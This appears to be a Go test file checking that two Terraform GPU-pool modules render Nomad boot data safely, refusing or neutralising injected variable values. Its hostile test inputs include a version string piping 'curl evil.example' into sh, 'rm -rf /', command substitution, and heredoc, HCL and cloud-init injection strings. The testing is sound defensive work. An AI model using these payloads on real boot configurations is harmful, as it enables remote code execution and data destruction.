package terraform

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
)

// The cloud modules render what a machine boots with in boot.tf, which uses
// no provider, so these tests plan that file alone, offline, with hostile
// variable values: each is either refused by a validation block or reaches
// the machine only as data.

// cloudBoot describes how to render one cloud module's boot data.
type cloudBoot struct {
	module string
	files  []string
	local  string         // the local holding each node's boot data
	vars   map[string]any // the module's other required variables
}

var cloudBoots = []cloudBoot{
	{"aws-gpu-pool", []string{"variables.tf", "boot.tf", "cloud-init.yaml.tftpl", "node-setup.sh"}, "user_data",
		map[string]any{"instance_type": "p4d.24xlarge", "subnet_id": "subnet-1"}},
	{"gcp-gpu-pool", []string{"variables.tf", "boot.tf", "startup.sh.tftpl", "node-setup.sh"}, "startup_script",
		map[string]any{"zone": "us-central1-a", "machine_type": "a2-highgpu-1g", "accelerator_type": "nvidia-tesla-a100", "subnetwork": "default"}},
}

// renderBoot plans the module's boot.tf with vars over the base values and
// returns node n1's boot data (and, for cloud-init, its YAML decoded by
// Terraform), or the plan's output when it fails.
func renderBoot(t *testing.T, c cloudBoot, vars map[string]any) (boot string, decoded map[string]any, out string, err error) {
	t.Helper()
	dir := t.TempDir()
	for _, f := range c.files {
		b, err := os.ReadFile(filepath.Join(modulesDir, c.module, f))
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, f), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	outputs := "output \"boot\" {\n  value = local." + c.local + "\n}\n"
	if c.local == "user_data" {
		outputs += "output \"decoded\" {\n  value = { for n, u in local.user_data : n => yamldecode(u) }\n}\n"
	}
	if err := os.WriteFile(filepath.Join(dir, "outputs_test.tf"), []byte(outputs), 0o600); err != nil {
		t.Fatal(err)
	}
	all := map[string]any{"nodes": []string{"n1"}, "node_pool": "gpu-a100", "servers": []string{"10.0.0.10:4647"}}
	for k, v := range c.vars {
		all[k] = v
	}
	for k, v := range vars {
		all[k] = v
	}
	js, _ := json.Marshal(all)
	if err := os.WriteFile(filepath.Join(dir, "test.tfvars.json"), js, 0o600); err != nil {
		t.Fatal(err)
	}
	data := t.TempDir()
	if out, err := runTF(t, dir, data, "plan", "-input=false", "-no-color", "-var-file=test.tfvars.json", "-out=boot.tfplan"); err != nil {
		return "", nil, out, err
	}
	bin, _ := FindBinary("")
	cmd := exec.Command(bin, "show", "-json", "boot.tfplan")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "CHECKPOINT_DISABLE=1", "TF_IN_AUTOMATION=1", "TF_DATA_DIR="+data)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	show, err := cmd.Output()
	if err != nil {
		t.Fatalf("terraform show: %v\n%s", err, stderr.String())
	}
	var plan struct {
		PlannedValues struct {
			Outputs map[string]struct {
				Value map[string]json.RawMessage `json:"value"`
			} `json:"outputs"`
		} `json:"planned_values"`
	}
	if err := json.Unmarshal(show, &plan); err != nil {
		t.Fatalf("terraform show -json: %v", err)
	}
	if err := json.Unmarshal(plan.PlannedValues.Outputs["boot"].Value["n1"], &boot); err != nil {
		t.Fatalf("boot data of n1: %v", err)
	}
	if raw, ok := plan.PlannedValues.Outputs["decoded"].Value["n1"]; ok {
		if err := json.Unmarshal(raw, &decoded); err != nil {
			t.Fatalf("decoded cloud-init of n1: %v", err)
		}
	}
	return boot, decoded, "", nil
}

// TestBootConfigRejectsHostileValues: values spliced into boot scripts
// before (versions into bash -c strings and URLs, names into HCL strings)
// must now be refused by the modules' validation blocks.
func TestBootConfigRejectsHostileValues(t *testing.T) {
	hostile := []struct {
		variable string
		value    any
	}{
		{"nomad_version", "1.10.5-1 unzip; curl -s evil.example | sh; echo"},
		{"nomad_version", "1.10.5\nrm -rf /"},
		{"nvidia_device_plugin_version", "1.1.0/$(id)"},
		{"node_pool", "gpu\"\n}\nplugin \"raw_exec\" {\n  config { enabled = true }"},
		{"datacenter", "dc1\"\nname = \"evil"},
		{"servers", []string{"10.0.0.1:4647\nplugin"}},
		{"nodes", []string{"n1;reboot"}},
	}
	for _, c := range cloudBoots {
		for _, h := range hostile {
			t.Run(c.module+"/"+h.variable, func(t *testing.T) {
				_, _, out, err := renderBoot(t, c, map[string]any{h.variable: h.value})
				if err == nil {
					t.Fatalf("%s = %q was accepted", h.variable, h.value)
				}
				if !strings.Contains(out, "Invalid value for variable") || !strings.Contains(out, "var."+h.variable) {
					t.Fatalf("%s = %q: want a validation error naming var.%s, got:\n%s", h.variable, h.value, h.variable, out)
				}
			})
		}
	}
}

// hostileExtra would end GCP's old quoted heredoc (a line "HCL") and run
// the next lines as root; in cloud-init it tries to open a new YAML key.
const hostileExtra = "client {\n  meta { a = \"b\" }\n}\nHCL\ntouch /tmp/caravan-pwned\n'\n$(touch /tmp/caravan-pwned)\nruncmd: [[touch, /tmp/caravan-pwned]]\n"

// TestBootConfigInert: extra_config (HCL for the client, by design any
// text) and server addresses with spaces and quotes reach the machine byte
// for byte as files, and appear nowhere in the boot script's code.
func TestBootConfigInert(t *testing.T) {
	servers := []string{"provider=aws tag_key=nomad-role tag_value='server'", "10.0.0.11:4647"}
	for _, c := range cloudBoots {
		t.Run(c.module, func(t *testing.T) {
			boot, decoded, out, err := renderBoot(t, c, map[string]any{"extra_config": hostileExtra, "servers": servers})
			if err != nil {
				t.Fatalf("render: %v\n%s", err, out)
			}
			if strings.Contains(boot, "caravan-pwned") || strings.Contains(boot, "tag_value") {
				t.Fatalf("a value appears in the boot data as text:\n%s", boot)
			}
			var files map[string]string
			if decoded != nil {
				files = cloudInitFiles(t, decoded)
			} else {
				files = scriptFiles(t, boot)
			}
			if files["/etc/nomad.d/extra.hcl"] != hostileExtra {
				t.Errorf("extra.hcl = %q, want extra_config byte for byte", files["/etc/nomad.d/extra.hcl"])
			}
			var client struct {
				Name   string
				Client struct {
					NodePool string   `json:"node_pool"`
					Servers  []string `json:"servers"`
				}
			}
			if err := json.Unmarshal([]byte(files["/etc/nomad.d/client.json"]), &client); err != nil {
				t.Fatalf("client.json: %v\n%s", err, files["/etc/nomad.d/client.json"])
			}
			if client.Name != "n1" || client.Client.NodePool != "gpu-a100" || !reflect.DeepEqual(client.Client.Servers, servers) {
				t.Errorf("client.json = %+v", client)
			}
			setup, _ := os.ReadFile(filepath.Join(modulesDir, c.module, "node-setup.sh"))
			if files["/usr/local/sbin/caravan-node-setup"] != string(setup) {
				t.Error("the setup script is not node-setup.sh as shipped")
			}
			if files["/etc/caravan/nomad-version"] != "1.10.5" {
				t.Errorf("nomad-version = %q", files["/etc/caravan/nomad-version"])
			}
			nomadValidate(t, files["/etc/nomad.d/client.json"])
		})
	}
}

// cloudInitFiles checks that the cloud-config runs nothing but the setup
// script and returns its write_files, decoded.
func cloudInitFiles(t *testing.T, doc map[string]any) map[string]string {
	t.Helper()
	want := []any{[]any{"/usr/local/sbin/caravan-node-setup"}}
	if !reflect.DeepEqual(doc["runcmd"], want) {
		t.Errorf("runcmd = %v; want only the setup script", doc["runcmd"])
	}
	for k := range doc {
		if k != "runcmd" && k != "write_files" {
			t.Errorf("unexpected cloud-config key %q", k)
		}
	}
	files := map[string]string{}
	for _, f := range doc["write_files"].([]any) {
		m := f.(map[string]any)
		if m["encoding"] != "b64" {
			t.Errorf("%v is not written from base64", m["path"])
		}
		b, err := base64.StdEncoding.DecodeString(m["content"].(string))
		if err != nil {
			t.Fatalf("%v: %v", m["path"], err)
		}
		files[m["path"].(string)] = string(b)
	}
	return files
}

// putLine is one file of the GCP boot script: put 'PATH' 'MODE' 'BASE64'.
var putLine = regexp.MustCompile(`^put '([^']*)' '([0-7]{4})' '([A-Za-z0-9+/=]*)'$`)

// scriptFiles checks the shape of the GCP boot script (bash syntax, code
// lines exactly the static ones) and returns the files it writes.
func scriptFiles(t *testing.T, script string) map[string]string {
	t.Helper()
	if out, err := exec.Command("bash", "-n", "-c", script).CombinedOutput(); err != nil {
		t.Fatalf("bash -n: %v\n%s", err, out)
	}
	tmpl, _ := os.ReadFile(filepath.Join(modulesDir, "gcp-gpu-pool", "startup.sh.tftpl"))
	static := map[string]bool{}
	for _, l := range strings.Split(string(tmpl), "\n") {
		static[l] = true
	}
	files := map[string]string{}
	for _, l := range strings.Split(script, "\n") {
		if m := putLine.FindStringSubmatch(l); m != nil {
			b, err := base64.StdEncoding.DecodeString(m[3])
			if err != nil {
				t.Fatalf("%s: %v", m[1], err)
			}
			files[m[1]] = string(b)
			continue
		}
		if !static[l] {
			t.Errorf("boot script line %q is neither the template's nor a put of base64", l)
		}
	}
	return files
}

// nomadValidate runs `nomad config validate` on the client configuration
// when a nomad binary is at hand (NOMAD_BIN or PATH), proving that Nomad
// reads the JSON as the client configuration meant.
func nomadValidate(t *testing.T, clientJSON string) {
	t.Helper()
	bin := os.Getenv("NOMAD_BIN")
	if bin == "" {
		bin, _ = exec.LookPath("nomad")
	}
	if bin == "" {
		t.Log("no nomad binary (NOMAD_BIN or PATH): client.json not checked by nomad config validate")
		return
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "client.json"), []byte(clientJSON), 0o600); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	cmd := exec.Command(bin, "config", "validate", dir)
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Run(); err != nil || !strings.Contains(out.String(), "Configuration is valid") {
		t.Errorf("nomad config validate: %v\n%s", err, out.String())
	}
}

// TestNodeSetupScripts: both cloud modules ship the same setup script, and
// it is valid bash.
func TestNodeSetupScripts(t *testing.T) {
	a, _ := os.ReadFile(filepath.Join(modulesDir, "aws-gpu-pool", "node-setup.sh"))
	g, _ := os.ReadFile(filepath.Join(modulesDir, "gcp-gpu-pool", "node-setup.sh"))
	if len(a) == 0 || !bytes.Equal(a, g) {
		t.Fatal("aws-gpu-pool/node-setup.sh and gcp-gpu-pool/node-setup.sh must be the same file")
	}
	if out, err := exec.Command("bash", "-n", filepath.Join(modulesDir, "aws-gpu-pool", "node-setup.sh")).CombinedOutput(); err != nil {
		t.Fatalf("bash -n: %v\n%s", err, out)
	}
}

// A spot pool's clients carry the node meta that turns on the agent's
// preemption watcher for their cloud; an on-demand pool's carry none.
func TestBootConfigSpotMeta(t *testing.T) {
	for _, c := range cloudBoots {
		cloud := strings.TrimSuffix(c.module, "-gpu-pool")
		t.Run(c.module, func(t *testing.T) {
			for _, spot := range []bool{false, true} {
				boot, decoded, out, err := renderBoot(t, c, map[string]any{"spot": spot})
				if err != nil {
					t.Fatalf("render: %v\n%s", err, out)
				}
				var files map[string]string
				if decoded != nil {
					files = cloudInitFiles(t, decoded)
				} else {
					files = scriptFiles(t, boot)
				}
				var client struct {
					Client struct {
						Meta map[string]string `json:"meta"`
					}
				}
				if err := json.Unmarshal([]byte(files["/etc/nomad.d/client.json"]), &client); err != nil {
					t.Fatalf("client.json: %v", err)
				}
				got := client.Client.Meta["caravan_preemption_notice"]
				if want := map[bool]string{true: cloud}[spot]; got != want {
					t.Errorf("spot = %v: caravan_preemption_notice = %q, want %q", spot, got, want)
				}
				if spot {
					nomadValidate(t, files["/etc/nomad.d/client.json"])
				}
			}
		})
	}
}
